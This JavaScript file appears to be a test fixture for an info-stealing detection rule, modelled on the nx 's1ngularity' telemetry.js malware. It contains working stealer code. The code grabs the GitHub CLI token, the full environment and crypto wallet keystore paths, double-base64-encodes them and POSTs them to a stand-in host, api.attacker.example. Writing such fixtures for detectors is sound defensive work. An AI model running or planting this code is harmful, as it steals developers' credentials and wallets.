// Modelled on the 2025 nx "s1ngularity" telemetry.js: collect the GitHub CLI token, the environment and
// wallet/keystore files, encode the lot and upload it. Endpoint is a placeholder.
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const result = { env: process.env, hostname: os.hostname(), platform: process.platform, inventory: [] };

try {
  result.ghToken = execSync('gh auth token', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim();
} catch (e) {
  result.ghToken = null;
}

const home = os.homedir();
const candidates = [
  // ruleid: code/info-stealing
  '.ethereum/keystore',
  // ruleid: code/info-stealing
  'Library/Application Support/Exodus/exodus.wallet',
  // ruleid: code/info-stealing
  '.bitcoin/wallet.dat',
  // ruleid: code/info-stealing
  '.electrum/wallets',
];
for (const rel of candidates) {
  const p = path.join(home, rel);
  if (fs.existsSync(p)) result.inventory.push(p);
}

const data = Buffer.from(Buffer.from(JSON.stringify(result)).toString('base64')).toString('base64');
// ruleid: code/info-stealing
const req = https.request('https://api.attacker.example/v1/telemetry', { method: 'POST', headers: { 'Content-Type': 'text/plain' } });
req.on('error', () => {});
// ruleid: code/info-stealing
req.end(data);
